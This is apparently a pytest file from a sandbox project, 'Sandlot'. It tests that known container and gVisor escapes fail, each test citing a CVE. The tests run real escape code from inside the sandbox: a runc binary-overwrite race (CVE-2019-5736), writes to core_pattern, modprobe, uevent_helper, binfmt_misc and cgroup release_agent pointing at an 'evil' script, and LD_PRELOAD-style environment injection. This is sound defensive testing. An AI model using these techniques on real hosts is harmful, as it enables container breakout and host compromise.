"""Promise: none of the ways that are known to have led out of containers and sandboxes leads out of one of Sandlot's.

Each test names where its idea is from, and really tries it. What other files of this folder try already:

==============================================================  =========================================================
CVE-2016-5195, CVE-2022-0847, CVE-2026-31431, CVE-2026-43284    test_shared_root.py (writing to what may only be read)
CVE-2021-3493, CVE-2023-0386, CVE-2023-2640, CVE-2023-32629     test_shared_root.py (overlays, setuid and capabilities of files)
CVE-2018-15664, CVE-2019-14271, CVE-2017-1002101                test_file_calls.py (links planted for calls from outside)
CVE-2015-8709, CVE-2019-13272                                   test_host_processes.py (tracers)
CVE-2016-9962, CVE-2024-21626                                   test_descriptors.py, test_linked_images.py (descriptors left open)
CVE-2019-16884, CVE-2021-30465, CVE-2025-31133, CVE-2025-52565,
CVE-2025-52881, CVE-2025-24965, CVE-2026-88264, CVE-2026-88265  test_linked_images.py (images that trick the runtime)
"shocker" (S. Krahmer, 2014), CVE-2015-3627, CVE-2015-2925      test_host_files.py (handles, devices, links, roots)
sockets and tokens of engines                                   test_host_files.py (/run), test_host_network.py (unix sockets)
bugs of kernels                                                 test_kernel_interfaces.py
==============================================================  =========================================================
"""

from __future__ import annotations

import hashlib
import secrets
import shutil
from pathlib import Path

import pytest

from sandlot import Sandbox, SandlotError
from tests.support.attempts import PREAMBLE
from tests.support.inside import PREAMBLE as FIRST
from tests.support.inside import USERS, run_inside
from tests.support.localservice import LocalService
from tests.support.planted import Planted
from tests.support.traces import sandbox_pids

pytestmark = pytest.mark.usefixtures("host_unchanged")


def test_runtime_program_cannot_be_overwritten(service: LocalService) -> None:
    """CVE-2019-5736 (runc; https://www.openwall.com/lists/oss-security/2019/02/11/2): what enters a sandbox is the host's own program.

    The shell and python become ``#!/proc/self/exe``, so that whatever runs them runs itself, and every process' program is opened for
    writing, again and again, while commands and code are started from outside.
    """
    programs = [Path(found) for name in ("crun", "runc", "runsc", "python3", "sh") if (found := shutil.which(name))]
    before = {path: _hash(path) for path in programs}
    program = r"""
import shutil
for name in ("/bin/sh", "/bin/bash", "/usr/bin/bash", "/bin/dash", "/usr/bin/env"):
    if os.path.exists(name):
        attempt(os.unlink, name)
        with open(name, "w") as file:
            file.write("#!/proc/self/exe\n")
        os.chmod(name, 0o755)
print("ready", flush=True)
ends, told["opened"] = time.monotonic() + 1, []
while time.monotonic() < ends:
    for pid in processes():
        if pid == os.getpid():
            continue
        for name in ("exe", "fd/3", "fd/4", "fd/5"):
            fd = attempt(os.open, f"/proc/{pid}/{name}", os.O_PATH).get("got")
            if fd is not None:
                again = attempt(os.open, f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK).get("got")
                if again is not None and stat.S_ISREG(os.fstat(again).st_mode):
                    told["opened"].append(attempt(os.readlink, f"/proc/{pid}/{name}").get("got", "one that has ended"))
                    attempt(os.write, again, b"#!/bin/evil\n")
                attempt(os.close, again or -1)
                os.close(fd)
told["opened"] = sorted(set(told["opened"]))
"""
    with service.create() as made:
        handle = made.commands.run(["python3", "-c", _alone(program)], user="root", background=True)
        stream = iter(handle)
        assert next(stream).data.strip() == b"ready"
        _try(made)
        rest = b"".join(chunk.data for chunk in stream)
        assert b"opened" in rest, "the race was run to its end"
    assert {path: _hash(path) for path in programs} == before


@pytest.mark.parametrize("user", USERS)
def test_host_kernel_runs_no_helper_chosen_inside(sandbox: Sandbox, planted: Planted, user: str) -> None:
    """The helpers that a kernel starts as root, outside of every namespace, aimed at a program of the sandbox's and set off.

    - release_agent of a control group (F. Wilhelm, 2019; CVE-2022-0492): https://unit42.paloaltonetworks.com/cve-2022-0492-cgroups/
    - core_pattern by a crash, modprobe by an unknown binary format and family, uevent_helper by an event, binfmt_misc by a program
      (https://book.hacktricks.wiki, "sensitive mounts"; CVE-2015-3630 and CVE-2015-3631 of Docker).
    """
    marker = planted.files[0].parent / f"by-the-kernel-{secrets.token_hex(8)}"
    told = run_inside(
        sandbox,
        PREAMBLE
        + r"""
evil = "/tmp/evil-" + given["name"]
with open(evil, "w") as file:
    file.write("#!/bin/sh\nid > " + given["marker"] + "\n")
os.chmod(evil, 0o777)
told["wrote"] = []
def write(path, text):
    fd = attempt(os.open, path, os.O_WRONLY).get("got")
    if fd is not None and os.fstat(fd).st_rdev != os.makedev(1, 3) and "got" in attempt(os.write, fd, text.encode()):
        told["wrote"].append(path)
# By its path in the sandbox, and by those that it could have on the host.
upper = [part.split("=", 1)[1] for line in open("/proc/self/mountinfo") for part in line.split()[-1].split(",") if part.startswith("upperdir=")]
for path in [evil, *(where + evil for where in upper)]:
    write("/proc/sys/kernel/core_pattern", "|" + path)
    write("/proc/sys/kernel/modprobe", path)
    write("/sys/kernel/uevent_helper", path)
    write("/proc/sys/fs/binfmt_misc/register", f":evil:M::evil!::{path}:")
    for number, controller in enumerate(("memory", "rdma", "pids", "cpu", "devices", "freezer", "misc", "name=systemd", "name=evil,none", "")):
        at = f"/tmp/group-{os.getpid()}-{number}"
        os.makedirs(at, exist_ok=True)
        kind = b"cgroup" if controller else b"cgroup2"
        mounted = attempt(lambda: call("mount", b"none", at.encode(), kind, 0, controller.encode() or None))
        for top in ([at] if "got" in mounted else []) + ["/sys/fs/cgroup", f"/sys/fs/cgroup/{controller}"]:
            attempt(os.mkdir, f"{top}/evil")
            write(f"{top}/evil/notify_on_release", "1")
            write(f"{top}/release_agent", path)
            child = os.fork()
            if not child:
                write(f"{top}/evil/cgroup.procs", "0")
                os._exit(0)
            os.waitpid(child, 0)
            attempt(os.rmdir, f"{top}/evil")
# Each is set off.
for _ in range(2):
    child = os.fork()
    if not child:
        attempt(resource.setrlimit, resource.RLIMIT_CORE, (1 << 20, 1 << 20))
        os.kill(os.getpid(), signal.SIGSEGV)
        os._exit(0)
    os.waitpid(child, 0)
with open("/tmp/unknown", "wb") as file:
    file.write(b"evil!" + bytes(range(200, 250)))
os.chmod("/tmp/unknown", 0o755)
if not os.fork():
    attempt(os.execv, "/tmp/unknown", ["unknown"])
    os._exit(0)
os.wait()
for family in range(1, 46):
    attempt(lambda: socket.socket(family, socket.SOCK_RAW, 250).close())
write("/sys/class/net/lo/uevent", "change")
""",
        user=user,
        given={"marker": str(marker), "name": secrets.token_hex(4)},
    )
    # gVisor lets root write to files of that kernel's own control groups; nobody acts on them.
    assert not any(path.endswith(("core_pattern", "modprobe", "uevent_helper", "register")) for path in told["wrote"])
    assert not marker.exists()


def test_sandbox_environment_does_not_reach_its_creators(service: LocalService, planted: Planted) -> None:
    """CVE-2025-23266: variables of a container reach a privileged program of its runtime, whose loader takes a library of the image.

    https://www.wiz.io/blog/nvidia-ai-vulnerability-cve-2025-23266-nvidiascape
    """
    marker = planted.files[0].parent / f"by-a-library-{secrets.token_hex(8)}"
    names = (
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONINSPECT",
        "BASH_ENV",
        "GODEBUG",
        "_LIBCONTAINER_INITPIPE",
    )
    envs = dict.fromkeys(names, f"/workspace/evil.so:{marker}")
    with service.create(envs=envs) as made:
        made.files.write("/workspace/evil.so", b"\x7fELF evil", user="root")
        made.commands.run(["/bin/true"])
        outside = 0
        for pid in sandbox_pids(service.data_dir):
            try:
                # What the guest started has a /workspace; what carries the sandbox has none.
                inside = Path(f"/proc/{pid}/root/workspace").is_dir()
                environment, name = Path(f"/proc/{pid}/environ").read_bytes(), Path(f"/proc/{pid}/comm").read_text(encoding="ascii").strip()
            except OSError:
                continue
            outside += not inside
            assert inside or b"/workspace/evil.so" not in environment, name
        assert outside
    assert not marker.exists()


def test_fixed_gvisor_escapes_stay_fixed(sandbox: Sandbox, planted: Planted, isolation: str) -> None:
    """Bugs of gVisor that were fixed, which a container must not have either.

    - CVE-2018-16359: renameat(2) was let through to the host, so that its files could be renamed.
    - CVE-2023-7258: mounts upon mounts, until a count overflows and the sandbox's kernel ends.
    - GKE's metadata through a sandbox (https://www.koyeb.com/blog/escaping-gke-gvisor-sandboxing-using-metadata): test_host_network.py.
    """
    told = run_inside(
        sandbox,
        PREAMBLE
        + r"""
told["renamed"] = [path for path in given["paths"] for other in ("/tmp/stolen", path + "-renamed")
                   if "got" in attempt(os.rename, path, other) or "got" in attempt(os.rename, "/proc/1/root" + path, other)]
os.makedirs("/tmp/upon", exist_ok=True)
attempt(lambda: call("unshare", 0x20000))
told["mounts"] = sum("got" in attempt(lambda: call("mount", b"/tmp", b"/tmp/upon", None, 4096 | 16384, None)) for _ in range(8))
""",
        user="root",
        given={"paths": planted.paths},
    )
    assert told["renamed"] == []
    assert told["mounts"] == 0 or isolation == "gvisor"
    assert sandbox.commands.run("echo alive").stdout == "alive\n"


def _try(made: Sandbox) -> None:
    """Start something, whatever becomes of it."""
    for command in (["/bin/sh", "-c", "echo hello"], ["/usr/bin/env", "true"], ["/bin/bash"]):
        try:
            made.commands.run(command, user="root", timeout=1, stdin="")
        except SandlotError:
            continue  # what runs itself for ever, or is a program for nobody


def _alone(program: str) -> str:
    """A program for ``python3 -c`` without anything given."""
    return f"import sys; sys.argv = ['-c', 'e30=']\n{FIRST}{PREAMBLE}{program}\nprint(json.dumps(told))"


def _hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()
